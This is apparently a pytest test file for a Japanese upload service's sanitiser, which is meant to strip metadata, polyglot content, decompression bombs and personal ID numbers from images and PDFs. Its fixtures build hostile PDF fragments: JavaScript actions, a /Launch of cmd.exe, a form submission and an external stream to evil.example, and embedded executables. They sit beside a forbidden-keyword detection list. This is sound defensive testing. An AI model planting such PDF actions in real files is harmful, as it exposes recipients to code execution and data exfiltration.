"""無害化: what comes out of the child. Each attack is a sentence."""

import io
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, ImageFile
from pypdf import PdfReader

from madoguchi.receive.sanitise import child, papers, pictures, process
from madoguchi.receive.sanitise.refusal import Refusal
from tests.unit.receive import corpus
from tests.unit.receive.corpus import MY_NUMBER, SCRIPT

MB = 1024 * 1024
PDF, JPEG, PNG = "application/pdf", "image/jpeg", "image/png"
MAKE = {PDF: papers.make, **pictures.MAKERS}


@pytest.fixture(autouse=True)
def as_in_the_child(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever sets letters in type in this process has told Pillow to be lenient; the child's Pillow is not."""
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", False)


def made(kind: str, content: bytes, most: int = 10 * MB) -> bytes:
    """What comes out, without the process around it."""
    return MAKE[kind](content, most)


def code(kind: str, content: bytes, most: int = 10 * MB) -> str:
    return child.answer(MAKE[kind], content, most)[0]


def through_the_child(kind: str, content: bytes, most: int = 10 * MB) -> bytes:
    spool = process.sanitise([content], kind=kind, size=len(content), most=most)
    return b"".join(spool.pieces())


class TestAPicture:
    def test_loses_place_device_name_and_thumbnail_but_still_stands_upright(self):
        whole = corpus.photo_with_a_place()
        for word in (b"Sakura Phone", b"Wakaba Haruka", b"at home", b"profile-of-a-device"):
            assert word in whole and word not in made(JPEG, whole)
        notes = Image.open(io.BytesIO(made(JPEG, whole))).getexif()
        assert dict(notes) == {0x0112: 6} and not notes.get_ifd(0x8825)

    def test_keeps_its_look(self):
        before, after = corpus.picture(), made(JPEG, corpus.picture())
        left, right = (Image.open(io.BytesIO(one)).convert("L") for one in (before, after))
        assert left.size == right.size
        pairs = zip(left.tobytes(), right.tobytes(), strict=True)
        assert max(abs(one - other) for one, other in pairs) <= 8

    @pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
    def test_of_any_kind_of_png_comes_back_the_same(self, mode):
        whole = corpus.picture("PNG", mode="L" if mode == "I;16" else mode)
        if mode == "I;16":
            out = io.BytesIO()
            Image.new("I;16", (8, 8), 40_000).save(out, "PNG")
            whole = out.getvalue()
        before, after = (Image.open(io.BytesIO(one)) for one in (whole, made(PNG, whole)))
        assert (before.mode, before.tobytes()) == (after.mode, after.tobytes())

    @pytest.mark.parametrize("mode", ["L", "CMYK"])
    def test_in_grey_or_in_printers_colours_is_taken_too(self, mode):
        assert Image.open(io.BytesIO(made(JPEG, corpus.picture(mode=mode)))).mode == {"CMYK": "RGB"}.get(mode, mode)

    def test_with_words_in_its_notes_loses_them(self):
        text = corpus.chunk(b"tEXt", b"Comment\0" + SCRIPT.encode())
        assert SCRIPT.encode() not in made(PNG, corpus.png_with(text))

    @pytest.mark.parametrize(
        "tail",
        [corpus.archive(("a.exe", b"MZ")), SCRIPT.encode(), b"PK\x03\x04", b"\0\0\0\x18ftypmp42" + b"movie" * 99, corpus.EICAR],
        ids=["zip", "html", "half a zip", "motion photo", "eicar"],
    )  # fmt: skip
    def test_that_is_something_else_as_well_is_a_picture_only(self, tail):
        for kind, form in ((JPEG, "JPEG"), (PNG, "PNG")):
            assert tail not in made(kind, corpus.picture(form) + tail)

    def test_with_a_script_hidden_in_a_jpeg_comment_is_a_picture_only(self):
        assert b"alert" not in made(JPEG, corpus.picture(comment=f"*/=1;{SCRIPT}/*".encode()))

    @pytest.mark.parametrize("size", [(65_000, 65_000), (30_000, 30_000), (20_000, 8_000)])
    def test_that_claims_billions_of_pixels_is_not_even_begun(self, size):
        assert code(PNG, corpus.png_claiming(*size)) == "too-many-pixels"
        assert code(JPEG, corpus.jpeg_claiming(*size)) == "too-many-pixels"

    def test_that_claims_more_than_it_holds_is_broken_or_grey_where_nothing_is(self):
        assert code(PNG, corpus.png_claiming(3000, 3000)) == "broken"
        assert code(JPEG, corpus.jpeg_claiming(3000, 3000)) in ("broken", "ok")

    def test_with_notes_that_unpack_without_end_is_refused(self):
        bomb = zlib.compress(bytes(50 * MB), 9)
        for kind, head in ((b"zTXt", b"a\0\0"), (b"iCCP", b"a\0\0"), (b"iTXt", b"a\0\1\0\0\0")):
            assert code(PNG, corpus.png_with(corpus.chunk(kind, head + bomb))) in ("broken", "ok")

    def test_of_a_large_camera_is_made_smaller_and_not_refused(self):
        whole = corpus.picture(size=(8160, 6144), quality=30)
        assert Image.open(io.BytesIO(made(JPEG, whole))).size == (4080, 3072)

    def test_that_would_grow_beyond_the_limit_is_written_more_coarsely(self):
        noise = io.BytesIO()
        Image.effect_noise((600, 400), 90).save(noise, "JPEG", quality=70)
        assert len(made(JPEG, noise.getvalue(), 120_000)) <= 120_000

    @pytest.mark.parametrize("kind", [JPEG, PNG])
    def test_cut_off_anywhere_is_broken(self, kind):
        whole = corpus.picture("JPEG" if kind == JPEG else "PNG")
        for at in range(10, len(whole) - 40, 37):
            assert code(kind, whole[:at]) == "broken"


ACTIVE = {
    "a script at opening": corpus.pdf("/OpenAction 6 0 R", "", "<< /S /JavaScript /JS (app.alert(1)) >>"),
    "a script in the names": corpus.pdf("/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", "", "<< /S /JavaScript /JS (app.alert(1)) >>"),
    "a script at turning the page": corpus.pdf("", "/AA << /O 6 0 R >>", "<< /S /JavaScript /JS (app.alert(1)) >>"),
    "a script behind a bookmark": corpus.pdf("/Outlines 6 0 R", "", "<< /First 7 0 R /Last 7 0 R >>",
        "<< /Title (a) /Parent 6 0 R /A << /S /JavaScript /JS (app.alert(1)) >> >>"),
    "a script behind a step to a page": corpus.pdf("", "/Annots [6 0 R]",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (app.alert(1)) >> >> >>"),
    "a script under another spelling": corpus.pdf("/Open#41ction 6 0 R", "", "<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "a script in a field": corpus.pdf("/AcroForm << /Fields [6 0 R] >>", "/Annots [6 0 R]",
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K << /S /JavaScript /JS (app.alert(1)) >> >> >>"),
    "a program to start": corpus.pdf("/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"),
    "a form that sends itself": corpus.pdf("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>]"),
    "a link outward": corpus.pdf("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://evil.example/) >> >>]"),
    "an attached file": corpus.pdf("/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>", "",
        "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"),
    "a file pinned to the page": corpus.pdf("", "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /EF << /F 6 0 R >> /F (a.exe) >> >>]",
        "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"),
    "a film": corpus.pdf("", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]"),
    "an XFA form": corpus.pdf("/AcroForm << /Fields [] /XFA 6 0 R >>", "", "<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream"),
    "content from another file": corpus.pdf("", "", "<< /Length 0 /F (https://evil.example/a) >>\nstream\n\nendstream"),
}  # fmt: skip
FORBIDDEN = (
    b"JavaScript", b"/JS", b"app.alert", b"/Launch", b"cmd.exe", b"evil.example", b"/EmbeddedFile", b"a.exe", b"/RichMedia", b"XFA",
    b"xdp", b"/OpenAction", b"/AA",
)  # fmt: skip


class TestAPdf:
    @pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE)
    def test_with_something_that_acts_comes_back_as_paper_only(self, content):
        paper = made(PDF, content)
        assert [word for word in FORBIDDEN if word in paper] == []
        assert len(PdfReader(io.BytesIO(paper)).pages) == 1

    def test_keeps_text_bookmarks_and_what_was_filled_in(self):
        whole = corpus.pdf(
            "/Outlines 6 0 R /AcroForm << /Fields [8 0 R] >>", "/Annots [8 0 R]",
            "<< /First 7 0 R /Last 7 0 R >>", "<< /Title (page one) /Parent 6 0 R /Dest [3 0 R /Fit] >>",
            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Wakaba) /Rect [0 0 9 9] >>",
            content=b"BT /F1 12 Tf 72 700 Td (a letter) Tj ET",
        )  # fmt: skip
        reader = PdfReader(io.BytesIO(made(PDF, whole)))
        assert "a letter" in reader.pages[0].extract_text()
        assert [one.title for one in reader.outline] == ["page one"]
        assert reader.get_form_text_fields() == {"name": "Wakaba"}

    def test_loses_who_wrote_it_and_what_it_said_before(self):
        old = corpus.pdf("/Metadata 6 0 R", "", "<< /Length 6 >>\nstream\nauthor\nendstream", "(an older version)")
        paper = made(PDF, old.replace(b"/Root 1 0 R", b"/Root 1 0 R /Info << /Author (Wakaba) >>"))
        assert [word for word in (b"author", b"Wakaba", b"an older version", b"pypdf") if word in paper] == []

    @pytest.mark.parametrize(
        "tail", [SCRIPT.encode(), corpus.archive(("a.exe", b"MZ")), corpus.EICAR], ids=["html", "zip", "eicar"]
    )
    def test_that_is_something_else_as_well_is_a_pdf_only(self, tail):
        whole = corpus.paper()
        assert tail not in made(PDF, whole + tail)
        hidden = whole.replace(b"\n", b"\n%" + tail.replace(b"\n", b"") + b"\n", 1)
        assert tail not in child.answer(papers.make, hidden, MB)[1]

    def test_with_a_password_is_refused(self):
        assert code(PDF, corpus.locked(corpus.paper())) == "encrypted"

    def test_with_a_signature_is_refused_and_not_silently_broken(self):
        field = "<< /FT /Sig /T (s) /V << /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >> >>"
        assert code(PDF, corpus.pdf("/AcroForm << /Fields [6 0 R] /SigFlags 3 >>", "", field)) == "signed"

    @pytest.mark.parametrize(
        "lines",
        [[MY_NUMBER], ["1234 5678 9018"], ["No. 1234-5678-9018."], ["1 2 3 4 5 6 7 8 9 0 1 8"]],
    )
    def test_with_a_my_number_in_its_text_is_refused(self, lines):
        assert code(PDF, corpus.saying("name: Wakaba", *lines)) == "my-number"

    def test_with_a_my_number_in_a_field_or_a_remark_is_refused(self):
        for where in ("/Subtype /Widget /FT /Tx /T (a) /V", "/Subtype /Text /Contents"):
            annotation = f"<< /Type /Annot /Rect [0 0 9 9] {where} ({MY_NUMBER}) >>"
            assert code(PDF, corpus.pdf("", "/Annots [6 0 R]", annotation)) == "my-number"

    def test_with_a_table_of_years_and_sums_is_not_taken_for_one(self):
        years = [" ".join(str(year) for year in range(start, start + 8)) for start in range(1950, 2040)]
        assert code(PDF, corpus.saying(*years, "1234567890189")) == "ok"

    def test_that_unpacks_without_end_takes_no_more_than_it_is_given(self):
        bomb = zlib.compress(bytes(300 * MB), 9)
        for content, filters in (
            (bomb, "/Filter /FlateDecode"),
            (zlib.compress(bomb, 9), "/Filter [/FlateDecode /FlateDecode]"),
        ):
            with pytest.raises(Refusal) as refusal:
                through_the_child(PDF, corpus.pdf(content=content, filters=filters))
            assert refusal.value.code == "too-complex"

    @pytest.mark.parametrize(
        "content",
        [
            b"%PDF-1.7\n" + b"x" * 500, b"%PDF-1.7\n%%EOF", b"%PDF-1.7\n<html>" + SCRIPT.encode(),
            corpus.paper()[:300], corpus.paper().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
            corpus.pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0"),
        ],
        ids=["nothing in it", "empty", "a page of the web", "half", "a page tree in a circle", "no page"],
    )  # fmt: skip
    def test_that_is_none_is_broken(self, content):
        assert code(PDF, content) in ("broken", "too-complex")


FUZZED = {PDF: corpus.pdf("/AcroForm << /Fields [] >>", "/Annots []", content=b"BT /F1 9 Tf (a) Tj ET"),
          JPEG: corpus.photo_with_a_place(), PNG: corpus.picture("PNG", (20, 20))}  # fmt: skip


@pytest.mark.parametrize("kind", FUZZED)
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(spoils=st.lists(st.tuples(st.floats(0, 1), st.binary(min_size=1, max_size=6)), min_size=1, max_size=4))
def test_however_a_file_is_spoiled_there_is_an_answer(kind, spoils):
    content = bytearray(FUZZED[kind])
    for place, spoil in spoils:
        at = 8 + int(place * (len(content) - 9))
        content[at : at + len(spoil)] = spoil
    answer, out = child.answer(MAKE[kind], bytes(content), 10 * MB)
    assert answer in process._CODES | {"ok"}
    assert bool(out) == (answer == "ok")
